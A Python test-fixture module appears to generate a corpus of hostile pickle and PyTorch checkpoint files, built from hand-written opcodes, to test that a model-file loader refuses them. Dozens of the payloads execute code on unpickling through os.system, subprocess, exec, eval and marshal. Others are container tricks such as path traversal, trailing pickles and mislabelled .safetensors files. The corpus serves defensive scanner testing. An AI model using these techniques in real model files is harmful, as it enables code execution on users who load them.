"""The hostile pickle corpus of SECURITY.md: one generator per technique.

Every payload tries to create a canary file named after itself. Opcodes are written by hand
where ``pickle`` would not produce them. ``PROVEN`` lists the payloads that are shown, in a
throwaway subprocess, to really create their canary under ``pickle.loads``.
"""

from __future__ import annotations

import io
import marshal
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"


def s(text: str) -> bytes:
    """BINUNICODE of a string."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(module: str, name: str, *args: bytes) -> bytes:
    """GLOBAL + args tuple + REDUCE."""
    return glob(module, name) + b"(" + b"".join(args) + b"tR"


def shell(canary: Path) -> str:
    return f"touch {canary}"


def pycode(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def _marshal_payload(canary: Path) -> bytes:
    code = compile(pycode(canary), "<x>", "exec")
    blob = marshal.dumps(code)
    return (
        glob("types", "FunctionType")
        + b"("
        + glob("marshal", "loads")
        + b"("
        + b"B"
        + struct.pack("<I", len(blob))
        + blob
        + b"tR"
        + b"}"
        + b"tR"
        + b")R"
    )


def payloads(canary: Path) -> dict[str, bytes]:
    """name -> raw pickle bytes (protocol 2 or 4), each trying to create ``canary``."""
    sh, py = s(shell(canary)), s(pycode(canary))
    p = {
        "os_system": PROTO2 + call("os", "system", sh) + b".",
        "posix_system": PROTO2 + call("posix", "system", sh) + b".",
        "nt_system": PROTO2 + call("nt", "system", sh) + b".",
        "inst_os_system": PROTO2 + b"(" + sh + b"ios\nsystem\n.",
        "obj_os_system": PROTO2 + b"(" + glob("os", "system") + sh + b"o.",
        "inst_builtins_exec": PROTO2 + b"(" + py + b"ibuiltins\nexec\n.",
        "builtins_exec": PROTO2 + call("builtins", "exec", py) + b".",
        "builtins_eval": PROTO2
        + call("builtins", "eval", s(f"__import__('os').system({shell(canary)!r})"))
        + b".",
        "builtin_exec_py2": PROTO2 + call("__builtin__", "exec", py) + b".",
        "builtins_compile_exec": PROTO2
        + glob("builtins", "exec")
        + b"("
        + call("builtins", "compile", py, s("x"), s("exec"))
        + b"tR.",
        "import_getattr": PROTO2
        + glob("builtins", "getattr")
        + b"("
        + call("builtins", "__import__", s("os"))
        + s("system")
        + b"tR("
        + sh
        + b"tR.",
        "runpy": PROTO2 + call("runpy", "_run_code", s(pycode(canary)), b"}") + b".",
        "subprocess": PROTO2
        + call("subprocess", "check_call", b"(" + s("sh") + s("-c") + sh + b"l")
        + b".",
        "pip_main": PROTO2 + call("pip", "main", s("--version")) + b".",
        "importlib_getattr": PROTO2
        + glob("builtins", "getattr")
        + b"("
        + call("importlib", "import_module", s("os"))
        + s("system")
        + b"tR("
        + sh
        + b"tR.",
        "inspect": PROTO2 + call("inspect", "getsource", s("x")) + b".",
        "marshal_function": PROTO2 + _marshal_payload(canary) + b".",
        "torch_hub_load": PROTO2 + call("torch.hub", "_load_local", s("/tmp"), s("x")) + b".",
        "torch_load": PROTO2 + call("torch", "load", s("/tmp/other.pt")) + b".",
        "code_interact": PROTO2 + call("code", "InteractiveInterpreter") + b".",
        "operator_attrgetter": PROTO2 + call("operator", "attrgetter", s("system")) + b".",
        "pkgutil_resolve": PROTO2 + call("pkgutil", "resolve_name", s("os:system")) + b".",
        "webbrowser": PROTO2 + call("webbrowser", "open", s("http://127.0.0.1:1/")) + b".",
        "ctypes": PROTO2 + call("ctypes", "CDLL", s("libc.so.6")) + b".",
        "commands_py2": PROTO2 + call("commands", "getoutput", sh) + b".",
        "dotted_name_p4": PROTO4 + s("subprocess") + s("os.system") + b"\x93(" + sh + b"tR.",
        "dotted_torch_os": PROTO4 + s("torch") + s("os.system") + b"\x93(" + sh + b"tR.",
        "stack_global_memo": PROTO4
        + s("posix")
        + b"\x94"
        + s("system")
        + b"\x94"
        + b"h\x00h\x01\x93("
        + sh
        + b"tR.",
        "memo_overwrite": PROTO2
        + s("collections")
        + b"q\x00"
        + s("os")
        + b"q\x00"
        + glob("collections", "OrderedDict")
        + b")R0"
        + b"h\x00"
        + s("system")
        + b"\x93("
        + sh
        + b"tR.",
        "build_setstate_partial": PROTO2
        + glob("collections", "OrderedDict")
        + b")R"
        + glob("functools", "partial")
        + b"("
        + glob("os", "system")
        + sh
        + b"tR"
        + b"b.",
        "persid_payload": PROTO2
        + b"("
        + s("storage")
        + call("os", "system", sh)
        + s("0")
        + s("cpu")
        + b"K\x01tQ.",
        "payload_then_bad_opcode": PROTO2 + call("os", "system", sh) + b"\xff.",
        "bad_opcode_then_payload": PROTO2 + b"N\xff" + call("os", "system", sh) + b".",
        "two_pickles": PROTO2 + b"}." + PROTO2 + call("os", "system", sh) + b".",
        "frame_lies": PROTO4 + b"\x95" + struct.pack("<Q", 3) + call("os", "system", sh) + b".",
        "frame_straddled": PROTO4 + b"\x95" + struct.pack("<Q", 3) + s("abc") + b".",
        "proto4_ops_under_proto2": PROTO2 + s("os") + s("system") + b"\x93(" + sh + b"tR.",
        "no_proto": call("os", "system", sh) + b".",
        "ext_opcode": PROTO2 + b"\x82\x01(" + sh + b"tR.",
        "newobj_ex": PROTO4 + glob("os", "system") + b")}\x92.",
        "setitem_on_list": PROTO2 + b"]" + s("a") + s("b") + b"s.",
        "deep_nesting": PROTO2 + b"(" * 100_000 + b"N" + b"t" * 100_000 + b".",
        "huge_length": PROTO4 + b"\x8e" + struct.pack("<Q", 1 << 60) + b"xx.",
        "memo_index_2_32": PROTO2 + b"N" + b"r" + struct.pack("<I", 0xFFFFFFF0) + b".",
        "dup_fanout": PROTO2 + b"]" + b"2" * 200 + b"(" + b"2" * 10_000 + b"l" + b".",
    }
    return p


# Payloads shown to run under plain pickle.loads (the others are structure tricks, refused
# without a working payload, or would need a real pip/torch.hub call).
PROVEN = {
    "os_system",
    "posix_system",
    "inst_os_system",
    "obj_os_system",
    "inst_builtins_exec",
    "builtins_exec",
    "builtins_eval",
    "builtins_compile_exec",
    "import_getattr",
    "subprocess",
    "importlib_getattr",
    "marshal_function",
    "dotted_name_p4",
    "stack_global_memo",
    "memo_overwrite",
    "payload_then_bad_opcode",
    "frame_lies",
    "proto4_ops_under_proto2",
    "no_proto",
    "runpy",
    "builtin_exec_py2",
    "commands_py2",
    "dotted_torch_os",
    "persid_payload",
    "pickle_named_safetensors",
}


def torch_zip(
    members: dict[str, bytes], flags: dict[str, int] | None = None, compress: set[str] | None = None
) -> bytes:
    """A PyTorch-style stored zip with the given members."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in members.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = (
                zipfile.ZIP_DEFLATED if name in (compress or ()) else (zipfile.ZIP_STORED)
            )
            z.writestr(info, data)
    raw = bytearray(buf.getvalue())
    for name, bit in (flags or {}).items():  # zipfile masks flag bits: set them by hand
        local, central = raw.find(name.encode()), raw.rfind(name.encode())
        raw[local - 30 + 6] |= bit
        raw[central - 46 + 8] |= bit
    return bytes(raw)


BENIGN_PKL = (
    PROTO2
    + b"}"
    + s("w")
    + call(
        "torch._utils",
        "_rebuild_tensor_v2",
        b"(" + s("storage") + glob("torch", "FloatStorage") + s("0") + s("cpu") + b"K\x04tQ",
        b"K\x00",
        b"K\x04\x85",
        b"K\x01\x85",
        b"\x89",
        glob("collections", "OrderedDict") + b")R",
    )
    + b"s."
)
FLOATS = struct.pack("<4f", 1, 2, 3, 4)


def zip_variants(canary: Path) -> dict[str, bytes]:
    """Container tricks; most carry a harmless data.pkl and must still be refused."""
    evil = payloads(canary)["os_system"]
    good = {"archive/data.pkl": BENIGN_PKL, "archive/data/0": FLOATS, "archive/version": b"3\n"}
    out = {
        "zip_dotdot": torch_zip({**good, "archive/../x": b"1"}),
        "zip_absolute": torch_zip({**good, "/archive/abs": b"1"}),
        "zip_nested_pkl": torch_zip({**good, "archive/sub/data.pkl": evil}),
        "zip_extra_pkl": torch_zip({**good, "archive/extra.pkl": evil}),
        "zip_two_top_folders": torch_zip({**good, "other/data/1": b"1"}),
        "zip_torchscript": torch_zip({**good, "archive/constants.pkl": evil}),
        "zip_code_dir": torch_zip({**good, "archive/code/__torch__.py": b"x"}),
        "zip_payload_pkl": torch_zip({**good, "archive/data.pkl": evil}),
        "zip_compressed": torch_zip(good, compress={"archive/data.pkl"}),
        "zip_encrypted_flag": torch_zip(good, flags={"archive/data.pkl": 0x1}),
        "zip_storage_key_traversal": torch_zip(
            {
                **good,
                "archive/data.pkl": BENIGN_PKL.replace(
                    s("0") + s("cpu"), s("../data.pkl") + s("cpu")
                ),
            }
        ),
        "zip_tensor_beyond_storage": torch_zip(
            {**good, "archive/data.pkl": BENIGN_PKL.replace(b"K\x04\x85", b"K\x09\x85")}
        ),
        "zip_storage_beyond_member": torch_zip({**good, "archive/data/0": FLOATS[:8]}),
        "zip_trailing_pickle": torch_zip({**good, "archive/data.pkl": BENIGN_PKL + evil}),
    }
    bad_crc = bytearray(torch_zip(good))
    at = bad_crc.find(b"3\n")  # the version member's bytes
    bad_crc[at] = ord("4")
    out["zip_bad_crc"] = bytes(bad_crc)
    mismatch = bytearray(torch_zip(good))
    first = mismatch.find(b"archive/version")  # local header name (first occurrence)
    mismatch[first : first + 15] = b"archive/versioX"
    out["zip_local_central_mismatch"] = bytes(mismatch)
    dup = io.BytesIO()
    with zipfile.ZipFile(dup, "w", zipfile.ZIP_STORED) as z:
        for name, data in {**good, "archive/data.pkl": BENIGN_PKL}.items():
            z.writestr(name, data)
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            z.writestr("archive/data.pkl", evil)
    out["zip_two_data_pkl"] = dup.getvalue()
    return out


def other_containers(canary: Path) -> dict[str, tuple[str, bytes]]:
    """name -> (file suffix, bytes) for containers sd-hub refuses outright."""
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as t:
        for member in ("storages", "tensors", "pickle"):
            data = payloads(canary)["os_system"]
            info = tarfile.TarInfo(member)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    npy_header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    npy_header += b" " * (-(len(npy_header) + 11) % 64) + b"\n"
    npy = (
        b"\x93NUMPY\x01\x00"
        + struct.pack("<H", len(npy_header))
        + npy_header
        + payloads(canary)["os_system"]
    )
    return {
        "legacy_tar": (".pt", tar.getvalue()),
        "npy_object": (".npy", npy),
        "pickle_named_safetensors": (".safetensors", payloads(canary)["os_system"]),
    }


def corpus(folder: Path, canary_dir: Path) -> dict[str, Path]:
    """Write every hostile file into ``folder``; canaries go to ``canary_dir``."""
    folder.mkdir(parents=True, exist_ok=True)
    files: dict[str, Path] = {}
    writers: list[Callable[[Path], dict[str, bytes]]] = [payloads, zip_variants]
    for make in writers:
        for name, data in make(canary_dir / "probe").items():
            data = make(canary_dir / name)[name]
            path = folder / f"{name}.ckpt"
            path.write_bytes(data)
            files[name] = path
    for name, (suffix, data) in other_containers(canary_dir / "x").items():
        data = other_containers(canary_dir / name)[name][1]
        path = folder / f"{name}{suffix}"
        path.write_bytes(data)
        files[name] = path
    return files
